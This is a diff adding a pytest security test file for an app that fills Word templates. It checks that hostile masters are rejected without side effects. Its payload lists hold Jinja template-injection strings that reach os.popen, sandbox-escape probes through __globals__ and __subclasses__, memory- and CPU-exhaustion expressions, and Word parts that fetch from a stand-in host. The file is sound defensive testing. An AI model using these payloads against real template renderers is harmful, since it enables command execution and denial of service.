@@ -1,0 +1,95 @@
+"""S5: a Word master can print what it is given, and do nothing else.
+
+That the server goes on answering meanwhile: tests/web/test_templat.py; the process with its limits of time and memory:
+tests/documents/templat/test_proses.py; what a master may ask for: tests/documents/templat/test_periksa.py.
+"""
+
+import re
+
+import pytest
+
+from kinerja_app.documents.errors import RenderError
+from kinerja_app.documents.render import render
+from tests.documents.templat.master_contoh import bagian, buat, hubungkan, sisip, tambah, ubah
+from tests.documents.templat.test_paket_master import bidang
+from tests.documents.test_render import CIRI, make_master
+from tests.house.source import all_modules
+from tests.web.test_templat import is_kosong, kalimat_of, unggah
+
+KODE = "{{ cycler.__init__.__globals__.os.popen('touch PWN').read() }}"
+JAHAT = {
+    "kode di badan": tambah(KODE),
+    "kode di tabel": ubah("{{ baris.iku }}", KODE),
+    "kode di kepala halaman": ubah("{{ contoh }}", "{{ contoh }}" + KODE, nama="word/header1.xml"),
+    "kode di kaki halaman": ubah("{{ kaki }}", "{{ kaki }}" + KODE, nama="word/footer1.xml"),
+    "kode di sifat dokumen": ubah("<dc:title>", f"<dc:title>{KODE}", nama="docProps/core.xml"),
+    "kode di sifat sendiri": buat(bagian() | {"docProps/custom.xml": f"<x>{KODE}</x>".encode()}),
+    "seratus megabita": tambah("{{ 'a' * 100000000 }}"),
+    "perulangan panjang": tambah("{% for x in range(100000000) %}{% endfor %}"),
+    "gambar dari internet": hubungkan("image", "http://jahat.example/x.png"),
+    "templat terlampir": hubungkan("attachedTemplate", "http://jahat.example/x.dotm"),
+    "berkas tertanam": buat(bagian() | {"word/embeddings/x.bin": b"x"}),
+    "bidang yang mengambil": sisip(bidang(' INCLUDETEXT "http://jahat.example/x" ')),
+}
+
+
+@pytest.mark.parametrize("kasus", JAHAT)
+def test_a_hostile_master_is_refused_with_a_sentence_and_leaves_nothing(
+    masuk, home_contoh, kasus, tmp_path, monkeypatch
+):
+    monkeypatch.chdir(tmp_path)
+    admin = masuk("admin")
+    jejak = home_contoh.jejak.read()
+    halaman = unggah(admin, JAHAT[kasus].isi)
+    assert halaman.status == 422
+    assert kalimat_of(halaman)
+    assert "Traceback" not in halaman.mentah
+    assert is_kosong(home_contoh)
+    *sebelum, ditolak = home_contoh.jejak.read()
+    assert (tuple(sebelum), ditolak.aksi) == (jejak, "unggahan_ditolak")
+    assert not list(tmp_path.glob("PWN"))
+
+
+PAYLOADS = (
+    "{{ cycler.__init__.__globals__.os.popen('touch PWN').read() }}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ isi.__class__ }}",
+    "{{ daftar.append('x') }}",
+    "{{ isi|attr('__class__') }}",
+    "{{ isi|safe }}",
+    "{% for x in range(100000000) %}{% endfor %}",
+    "{{ lipsum.__globals__ }}",
+    "{{ namespace() }}",
+    "{% include 'x' %}",
+    "{% import 'os' as os %}",
+    "{{ 1 / 0 }}",
+    "{{ isi.format_map }}{{ '{0.__class__}'.format(isi) }}",
+    "{{ 'a' * 100000000 }}",
+    "{{ isi * 100000000 }}",
+    "{{ 10 ** 100000 }}",
+    "{{ '%1000000000d' % 1 }}",
+    "{{ isi.ljust(100000000) }}",
+    "{{ '{:>100000000}'.format(isi) }}",
+    "{{ ','.join(daftar) }}",
+    "{% for %}",
+    "{{ isi",
+)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("place", ["body", "cell", "header", "footer", "title"])
+def test_a_master_that_tries_something_is_refused_without_side_effect(tmp_path, payload, place, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    master = make_master(payload) if place == "body" else make_master("x", **{place: payload})
+    with pytest.raises(RenderError):
+        render(master, {"isi": "teks", "daftar": ["a"]}, CIRI)
+    assert not (tmp_path / "PWN").exists()
+
+
+def test_only_render_fills_word_masters():
+    # bench/ fills a master of its own by docxtpl alone, to compare with; it serves nobody.
+    ours = [module for module in all_modules() if not module.name.startswith(("tests/", "bench/"))]
+    importing = [module.name for module in ours if re.search(r"^\s*(import|from) docxtpl", module.text, re.MULTILINE)]
+    assert importing == ["kinerja_app/documents/render.py"]
+    environments = [module.name for module in ours if "SandboxedEnvironment" in module.text]
+    assert environments == ["kinerja_app/documents/lingkungan.py"]
